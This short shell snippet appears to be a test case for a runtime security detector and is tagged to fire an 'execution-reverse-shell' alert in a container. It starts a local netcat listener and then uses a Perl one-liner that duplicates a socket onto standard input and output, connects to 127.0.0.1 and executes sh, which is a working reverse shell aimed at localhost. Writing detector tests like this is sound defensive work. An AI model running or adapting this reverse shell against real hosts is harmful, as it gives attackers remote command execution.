# in: container
# fires: execution-reverse-shell
# The socket is the input and output before it is connected, under another number.
nc -l -p 4445 < /dev/null &
sleep 0.3
perl -e 'socket(S, 2, 1, 6); syscall(33, fileno(S), $_) for 0 .. 2;
  connect(S, pack("S n C4 x8", 2, 4445, 127, 0, 0, 1)) or die $!; exec "sh"'
